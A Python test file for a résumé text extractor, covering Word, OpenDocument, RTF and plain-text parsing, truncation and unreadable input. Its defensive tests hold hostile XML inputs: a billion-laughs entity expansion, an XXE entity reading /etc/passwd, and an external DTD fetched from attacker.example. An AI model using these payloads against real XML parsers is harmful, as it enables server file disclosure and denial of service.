"""The text of Word, OpenDocument, RTF and plain-text résumés, read in the application's page."""

import io
import zipfile

import pytest

from applications import resume_text
from applications.resume_text import MAX_TEXT_CHARS, extract_text
from applications.validators import DOCX, ODT, PDF, RTF, TEXT
from tests.documents import pdf_bytes

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TEXT_NS = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"


def archive(**parts: str | bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, content in parts.items():
            zipped.writestr(name.replace("__", "/"), content)
    return buffer.getvalue()


def word_document(body: str) -> bytes:
    """A DOCX whose document body is `body` (WordprocessingML, the w: prefix declared)."""
    return archive(
        **{
            "[Content_Types].xml": "<Types/>",
            "word__document.xml": (
                f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{WORD}">'
                f"<w:body>{body}</w:body></w:document>"
            ),
        }
    )


def docx_with(*paragraphs: str) -> bytes:
    return word_document(
        "".join(f"<w:p><w:r><w:t>{paragraph}</w:t></w:r></w:p>" for paragraph in paragraphs)
    )


def odt_with(*paragraphs: str, content: str = "") -> bytes:
    """An ODT whose text is these paragraphs, or the `content` given as OpenDocument XML."""
    content = content or "".join(f"<text:p>{paragraph}</text:p>" for paragraph in paragraphs)
    return archive(
        mimetype=ODT.content_type,
        **{
            "content.xml": (
                f'<?xml version="1.0" encoding="UTF-8"?>'
                f'<office:document-content xmlns:office="{OFFICE}" xmlns:text="{TEXT_NS}">'
                f"<office:body><office:text>{content}</office:text></office:body>"
                "</office:document-content>"
            )
        },
    )


def test_a_word_document_reads_as_its_paragraphs():
    data = word_document(
        "<w:p><w:r><w:t>Jordan Tremblay</w:t></w:r></w:p>"
        '<w:p><w:r><w:t xml:space="preserve">Parole officer, </w:t></w:r>'
        "<w:r><w:t>2019–2024</w:t><w:tab/><w:t>Kingston</w:t></w:r></w:p>"
        # Deleted text (tracked changes) and field codes are not the résumé's words.
        "<w:p><w:r><w:delText>Removed line</w:delText><w:instrText>PAGE</w:instrText>"
        "<w:t>Case management &amp; reports</w:t></w:r></w:p>"
    )

    found = extract_text(data, DOCX.content_type)

    assert found.text == (
        "Jordan Tremblay\nParole officer, 2019–2024\tKingston\nCase management & reports"
    )
    assert not found.truncated


def test_an_opendocument_text_reads_as_its_headings_and_paragraphs():
    data = odt_with(
        content="<text:h>Jordan Tremblay</text:h>"
        '<text:p>Parole<text:s text:c="3"/>officer<text:tab/>2019<text:line-break/>Kingston'
        "</text:p><text:p>Case <text:span>management</text:span></text:p>"
        # A comment on the document is not the résumé's text.
        "<text:p><office:annotation><text:p>A reviewer's comment</text:p>"
        "</office:annotation>Reports</text:p>"
    )

    found = extract_text(data, ODT.content_type)

    assert found.text == (
        "Jordan Tremblay\nParole   officer\t2019\nKingston\nCase management\nReports"
    )


def test_an_rtf_document_reads_as_its_words_without_control_words_or_tables():
    data = (
        rb"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0\froman Times New Roman;}}"
        rb"{\colortbl;\red0\green0\blue0;}{\*\generator Writer;}{\info{\author Someone}}"
        b"\\pard\\f0\\fs24 Jordan Tr\\'e9mblay\\par\r\n"
        rb"Parole officer \endash  Kingston\par "
        rb"Fran\u231?ais et anglais \{bilingue\}\line {\b caseload} of 30\par "
        rb"{\pict\pngblip\bin4 {{{ }"
        rb"\u-10179?\u-8704? done}"
    )

    found = extract_text(data, RTF.content_type)

    assert found.text == (
        "Jordan Trémblay\nParole officer – Kingston\nFrançais et anglais {bilingue}\n"
        "caseload of 30\n\U0001f600 done"
    )


def test_plain_text_is_decoded_as_the_upload_check_reads_it():
    assert extract_text("Jordan Tremblay\nAgent de libération".encode(), TEXT.content_type) == (
        resume_text.ResumeText("Jordan Tremblay\nAgent de libération")
    )
    windows = "Résumé — Jordan".encode("cp1252")
    assert extract_text(windows, TEXT.content_type).text == "Résumé — Jordan"


@pytest.mark.parametrize(
    ("content_type", "build"),
    [
        (DOCX.content_type, lambda text: docx_with(text)),
        (ODT.content_type, lambda text: odt_with(text)),
        (RTF.content_type, lambda text: b"{\\rtf1\\ansi " + text.encode() + b"}"),
        (TEXT.content_type, lambda text: text.encode()),
    ],
)
def test_the_text_is_cut_at_the_limit_and_says_so(content_type, build):
    found = extract_text(build("word " * (MAX_TEXT_CHARS // 4)), content_type)

    assert found.truncated
    assert len(found.text) <= MAX_TEXT_CHARS
    assert found.text.startswith("word word")


@pytest.mark.parametrize(
    "declaration",
    [
        # Entities that expand a billion times (the "billion laughs").
        '<!DOCTYPE w:document [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        # An external entity: a file of the server.
        '<!DOCTYPE w:document [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        # A document type alone, the way in for both.
        '<!DOCTYPE w:document SYSTEM "http://attacker.example/x.dtd">',
    ],
)
def test_xml_with_a_document_type_is_not_read(declaration):
    data = archive(
        **{
            "[Content_Types].xml": "<Types/>",
            "word__document.xml": (
                f'<?xml version="1.0"?>{declaration}<w:document xmlns:w="{WORD}"><w:body>'
                "<w:p><w:r><w:t>&b;&a;Jordan</w:t></w:r></w:p></w:body></w:document>"
            ),
        }
    )

    assert extract_text(data, DOCX.content_type) is None


def test_a_document_type_is_refused_in_any_encoding():
    xml = (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY a "secret">]>'
        f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )
    data = archive(
        **{"[Content_Types].xml": "<Types/>", "word__document.xml": xml.encode("utf-16")}
    )

    assert extract_text(data, DOCX.content_type) is None


@pytest.mark.parametrize(
    ("data", "content_type"),
    [
        (b"PK\x03\x04 not really an archive", DOCX.content_type),
        (archive(**{"[Content_Types].xml": "<Types/>"}), DOCX.content_type),  # no document part
        (archive(**{"word__document.xml": "<w:document>"}), DOCX.content_type),  # cut short
        (archive(mimetype=ODT.content_type), ODT.content_type),
        (b"not rtf at all", RTF.content_type),
        (b"\x00\x01binary", TEXT.content_type),
        (pdf_bytes(), PDF.content_type),  # the browser shows PDFs
    ],
)
def test_what_cannot_be_read_gives_no_text(data, content_type):
    assert extract_text(data, content_type) is None


def test_an_archive_that_unpacks_to_far_more_than_a_document_is_not_read(monkeypatch):
    monkeypatch.setattr(resume_text, "MAX_UNPACKED_BYTES", 1000)

    assert extract_text(docx_with("word " * 1000), DOCX.content_type) is None
    assert extract_text(docx_with("word"), DOCX.content_type).text == "word"
